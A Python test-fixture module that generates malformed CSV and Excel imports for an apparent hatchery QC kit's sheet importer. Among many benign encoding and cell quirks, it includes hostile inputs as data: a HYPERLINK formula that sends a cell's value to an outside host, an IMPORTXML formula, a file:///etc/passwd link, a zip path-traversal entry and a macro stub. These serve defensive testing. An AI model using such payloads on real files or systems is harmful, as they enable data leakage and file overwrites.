"""Sheets as clumsy people and other programs make them, and as ill will does: a third bed, of kinds the others lack.

Made, not stored. Every case is one import into the site of ``test_sheet_bed``: day first, Europe/Lisbon, lots L-1 and
L-2, hatch H-0, sample S-0.
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import numpy as np
from openpyxl.comments import Comment
from openpyxl.styles import Font
from openpyxl.worksheet.datavalidation import DataValidation
from sheet_cases import FEED, HATCH, LOT, READING, SAMPLE, Case, as_csv, one
from sheet_files import repacked, workbook, zipped

OK = {("hatches", "H-1", "cysts_g"): 1.6}
_COUNTS = ("nauplii", "cysts", "counted_by")
PHOTOS_ALONE = as_csv([{k: v for k, v in SAMPLE.items() if k not in _COUNTS} | {"photos": "x.jpg"}])
WAITING = as_csv([{k: v for k, v in SAMPLE.items() if k not in _COUNTS} | {"photos": "x.jpg", "counted_by": "photo"}])
OF_NO_KIND = as_csv([{k: v for k, v in SAMPLE.items() if k != "kind"}])
FETCHES = '=HYPERLINK("http://example.org?"&A1)'


def texts(rng) -> list[Case]:
    """Files of text: encodings, separators, what editors and mail programs do to them."""
    hatch = as_csv([HATCH])
    text = hatch.decode()
    head, row = text.split("\r\n")[:2]
    f = "hatches.csv"
    comma = as_csv([HATCH | {"cysts_g": "1,6", "volume_ml": "800,0"}], ";").decode()
    reordered = {k: HATCH[k] for k in rng.permutation(list(HATCH))}
    return [
        Case("UTF-16 with mark, semicolons, commas", {f: comma.encode("utf-16")}, 0, stored=OK),
        Case("UTF-16 big end", {f: b"\xfe\xff" + text.encode("utf-16-be")}, 0, stored=OK),
        Case("UTF-32", {f: text.encode("utf-32")}, 2, "hatches.csv"),
        Case("UTF-7", {f: b"+AGg-atch,lot\r\nH-1,L-1\r\n"}, 2, "no heading row was found"),
        Case("mark twice", {f: b"\xef\xbb\xbf\xef\xbb\xbf" + hatch}, 0, stored=OK),
        Case("mark within", {f: text.replace("H-1", "\ufeffH-1").encode()}, 0, stored=OK),
        Case(
            "hard blanks",
            {f: text.replace("1.6", "\u00a01.6\u00a0").replace("800", "800\u202f").encode()},
            0,
            stored=OK,
        ),
        Case("blanks in thousands", {f: text.replace(",800", ',"0 800"').encode()}, 0, stored=OK),
        Case("curly quotes", {f: f"{head}\r\n“H-1”,L-1,production,A,2026-11-03 09:00,1.6,800\r\n".encode()}, 0),
        Case(
            "all quoted",
            {f: "\r\n".join('"' + r.replace(",", '","') + '"' for r in (head, row)).encode()},
            0,
            stored=OK,
        ),
        Case("single quotes", {f: text.replace("H-1", "'H-1'").encode()}, 0),
        Case("no last line end", {f: text.rstrip().encode()}, 0, stored=OK),
        Case("end of DOS", {f: hatch + b"\x1a"}, 2, "row 3: "),
        Case("tabs and commas", {f: f"{head}\r\n{row.replace(',', chr(9))}\r\n".encode()}, 2, "row 2: "),
        Case("semicolons, points", {f: as_csv([HATCH], ";")}, 0, stored=OK),
        Case("two separators", {f: f"{head.replace(',', ';')}\r\n{row}\r\n".encode()}, 2),
        Case("heading of another language", {f: text.replace("cysts_g", "Zysten (g)").encode()}, 2, "is not a column"),
        Case("heading like it", {f: text.replace("cysts_g", "cyst_g").encode()}, 2, "cyst_g"),
        Case(
            "heading of marks",
            {f: text.replace("cysts_g", "cysts_g\u202e").encode()},
            2,
            "cysts_g\\u202e is not a column",
        ),
        Case("columns of another order", {f: as_csv([reordered])}, 0, stored=OK),
        Case(
            "empty column between", {f: text.replace(",lot", ",,lot").replace(",L-1", ",,L-1").encode()}, 0, stored=OK
        ),
        Case(
            "index column",
            {f: f",{head}\r\n0,{row}\r\n".encode()},
            0,
            "column 1 has no heading, and was left out",
            stored=OK,
        ),
        Case("numbered rows", {f: f"{head}\r\n1. {row}\r\n".encode()}, 0),
        Case("comments", {f: f"# made by a program\r\n{text}".encode()}, 0, stored=OK),
        Case("on its side", {f: "\r\n".join(f"{k},{v}" for k, v in HATCH.items()).encode()}, 2, "hatches.csv"),
        Case("mail", {f: b"From: a\r\nSubject: hatches\r\n\r\n" + hatch.replace(b",", b"=2C")}, 2),
        Case("conflict", {f: f"{head}\n<<<<<<< mine\n{row}\n=======\n{row}\n>>>>>>> theirs\n".encode()}, 2, "row 2: "),
        Case("ends in a cell", {f: text.rstrip()[:-1].encode()}, 1, "20 g of cysts per litre"),  # 80 for 800
        Case(
            "photos, and nobody says who counted",
            {"samples.csv": PHOTOS_ALONE},
            1,
            "counted_by is empty and was taken for photo",
        ),
        Case("a photo that is not there", {"samples.csv": WAITING}, 1, "names x.jpg, which is not in the site folder"),
        Case("a photo whose scale nobody knows", {"samples.csv": WAITING}, 1, "x.jpg, and no scale is known"),
        Case("counts, and nobody says of what kind", {"samples.csv": OF_NO_KIND}, 2, "the column kind must be there"),
        Case("a line a cell", {f: text.replace(",", "\r\n").encode()}, 2),
    ]


def cells() -> list[Case]:
    """What people write into cells."""
    f = "hatches.csv"
    same = {("hatches", "H-1", "started"): "2026-11-03T09:00:00+00:00"}
    orders = [HATCH | {"hatch": f"H-{k}", "started": s} for k, s in ((1, "3/11/26 9:00"), (2, "2026-11-03 09:00"))]
    return [
        Case("dates of two orders", {f: as_csv(orders)}, 0, stored=same),
        Case(
            "date of the other order",
            {f: as_csv([*orders, HATCH | {"hatch": "H-3", "started": "11/13/2026 9:00"}])},
            2,
            "row 4: started",
        ),
        one("month in words", "hatches", {"started": "3 November 2026 09:00"}, 0, stored=same),
        one("month first in words", "hatches", {"started": "November 3, 2026 9:00"}, 0, stored=same),
        one("noon", "hatches", {"started": "3/11/2026 12:00 pm"}, 0),
        one("midnight", "hatches", {"started": "3/11/2026 12:15 am"}, 0),
        one("blank in a time", "hatches", {"started": "2026-11-03 9 : 00"}, 2, "row 2: started"),
        one("unit in a cell", "hatches", {"cysts_g": "1.6 g", "volume_ml": "0.8 l"}, 0, stored=OK),
        one("another unit in a cell", "hatches", {"cysts_g": "1600 mg"}, 0, stored=OK),
        one("wrong unit in a cell", "hatches", {"cysts_g": "1.6 ml"}, 2, "row 2: cysts_g"),
        one("dash for nothing", "hatches", {"temperature_c": "-"}, 0),
        one("n/a for nothing", "hatches", {"temperature_c": "n/a"}, 0),
        one("question mark", "hatches", {"temperature_c": "?"}, 0, "taken as empty"),
        one("same as above", "hatches", {"temperature_c": '"'}, 2, "row 2"),
        one("arithmetic", "hatches", {"cysts_g": "0.8+0.8"}, 2, "row 2: cysts_g"),
        one("formula that fetches", "hatches", {"notes": FETCHES}, 0, stored={("hatches", "H-1", "notes"): FETCHES}),
        one("sheet's formula in a name", "lots", {"lot": "=IMPORTXML(A1)"}, 0),
        one("letter for digit", "hatches", {"cysts_g": "l.6"}, 2, "row 2: cysts_g"),
        one("small o for zero", "hatches", {"volume_ml": "8oo"}, 2, "row 2: volume_ml"),
        one("full-width digits", "hatches", {"cysts_g": "１.６"}, 0, stored=OK),
        one("thousands", "feeds", {"nauplii": "1,500,000"}, 0, stored={("feeds", "F-1", "nauplii"): 1_500_000}),
        one("count with points", "feeds", {"nauplii": "1.500.000"}, 0, stored={("feeds", "F-1", "nauplii"): 1_500_000}),
        one("count with a comma", "samples", {"nauplii": "4,0"}, 0, stored={("samples", "S-1", "nauplii"): 4}),
        one("negative count", "samples", {"nauplii": "-4"}, 2, "row 2: nauplii"),
        one("counted by nobody", "samples", {"counted_by": "moon"}, 2, "row 2: counted_by"),
        one("purpose in capitals", "hatches", {"purpose": "Production"}, 0, stored=OK),
        one("reading of nothing", "readings", {"value": ""}, 2, "row 2: value"),
        one("reading in no unit", "readings", {"quantity": "temperature_c", "value": "301", "unit": "K"}, 2),
        one("lot of blanks within", "hatches", {"lot": "L- 1"}, 2, "row 2: lot"),
        one("lot of other case", "hatches", {"lot": "l-1"}, 2, "row 2: lot"),
        one("lot that looks alike", "hatches", {"lot": "L‑1"}, 2, "row 2: lot"),
        one("very long name", "lots", {"lot": "L" * 100_000}, 2, "row 2: lot"),
    ]


def books() -> list[Case]:
    """Workbooks with what offices put into them."""
    head, row = list(HATCH), [*list(HATCH.values())[:4], dt.datetime(2026, 11, 3, 9), 1.6, 800]
    sound = workbook({"hatches": [head, row]})

    def book(change=None, rows=None, name="hatches"):
        return {"w.xlsx": workbook({name: rows or [head, row]}, change and (lambda b: change(b[name], b)))}

    def hide(sheet, _):
        sheet.row_dimensions[3].hidden = True

    def hide_sheet(_, whole):
        extra = whole.create_sheet("lots")
        extra.append(["lot"])
        extra.append(["L-hidden"])
        extra.sheet_state = "veryHidden"

    def hide_column(sheet, _):
        sheet.column_dimensions["F"].hidden = True

    def hide_all(sheet, whole):
        whole.create_sheet("empty")
        sheet.sheet_state = "hidden"

    def title(sheet, _):
        sheet.insert_rows(1, 2)
        sheet["A1"] = "Hatch room, November"
        sheet.merge_cells("A1:G1")

    def twice(sheet, _):
        sheet["H1"] = "cysts_g"
        sheet["H2"] = 1.7

    def second_table(sheet, _):
        for k, cells in enumerate((["lot", "origin"], ["L-8", "x"]), 6):
            for j, value in enumerate(cells, 1):
                sheet.cell(k, j, value)

    def decorate(sheet, whole):
        sheet["A2"].comment = Comment("call me", "ka")
        sheet["A2"].hyperlink = "file:///etc/passwd"
        sheet["A1"].font = Font(bold=True)
        sheet.auto_filter.ref = "A1:G2"
        sheet.freeze_panes = "A2"
        sheet.add_data_validation(DataValidation(type="list", formula1='"a,b"'))
        whole.defined_names.clear()

    def text_dates(sheet, _):
        sheet["E2"] = "3.11.2026 09:00"

    def merged_head(sheet, _):
        sheet.insert_rows(1)
        sheet["A1"] = "who"
        sheet["F1"] = "what"
        sheet.merge_cells("A1:E1")
        sheet.merge_cells("F1:G1")

    def old_dates(_, whole):
        whole.epoch = dt.datetime(1904, 1, 1)

    def shown_rounded(sheet, _):
        sheet["F2"] = 1.6000000000000003
        sheet["F2"].number_format = "0"

    macro = repacked(sound, "xl/vbaProject.bin", lambda old: b"\xd0\xcf\x11\xe0" + bytes(3000))
    link = repacked(
        sound,
        "xl/externalLinks/externalLink1.xml",
        lambda old: b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
    )
    rows = {"lots": LOT, "samples": SAMPLE, "readings": READING, "feeds": FEED}
    everything = {"hatches": [head, row]} | {n: [list(r), list(r.values())] for n, r in rows.items()}
    up = zipped({"../../../tmp/evil.txt": b"evil", "[Content_Types].xml": b"<x/>"})
    return [
        Case(
            "hidden row",
            book(hide, [head, row, ["H-2", *row[1:]]]),
            0,
            "hidden row 3 read like the others",
            stored=OK | {("hatches", "H-2", "cysts_g"): 1.6},
        ),
        Case(
            "hidden column",
            book(hide_column),
            0,
            "hidden column F read like the others",
            stored=OK,
        ),
        Case(
            "hidden sheet",
            book(hide_sheet),
            0,
            "left out as nobody sees it: hidden sheet 'lots'",
            stored=OK | {("lots", "L-hidden", "lot"): "no such row"},
        ),
        Case("nothing but a hidden sheet", book(hide_all), 2, "left out as nobody sees it: hidden sheet 'hatches'"),
        Case("title over all", book(title), 0, stored=OK),
        Case("merged headings above", book(merged_head), 0, stored=OK),
        Case("heading twice", book(twice), 2, "stands twice"),
        Case("a second table below", book(second_table), 2, "row 6: "),
        Case("comments, links, filters", book(decorate), 0, stored=OK),
        Case("date as text", book(text_dates), 0, stored={("hatches", "H-1", "started"): "2026-11-03T09:00:00+00:00"}),
        Case(
            "dates since 1904", book(old_dates), 0, stored={("hatches", "H-1", "started"): "2026-11-03T09:00:00+00:00"}
        ),
        Case("shown rounded", book(shown_rounded), 0, stored=OK),
        Case("sheet's name in capitals", book(name="HATCHES "), 0, stored=OK),
        Case("macros", {"w.xlsm": macro}, 0),
        Case("link to outside", {"w.xlsx": link}, 0, stored=OK),
        Case("way out of a zip", {"w.xlsx": up}, 2, "cannot be read as an Excel workbook"),
        Case("all tables in one", {"w.xlsx": workbook(everything)}, 0, stored=OK),
        Case("chart instead", {"w.xlsx": repacked(sound, "xl/worksheets/sheet1.xml", lambda old: b"<chartsheet/>")}, 2),
        Case("template, untouched", untouched, 0, "nothing to add"),
    ]


def untouched(place: Path) -> None:
    """Put the kit's own workbook template there, nothing filled in, under a wrong name."""
    from qckit.log.sheets.templates import write_excel_template

    write_excel_template(place / "t.xlsx")
    (place / "t.xlsx").rename(place / "given.csv")


def clumsy_sheets(seed: int = 17) -> list[Case]:
    """Return the third bed."""
    return [*texts(np.random.default_rng(seed)), *cells(), *books()]
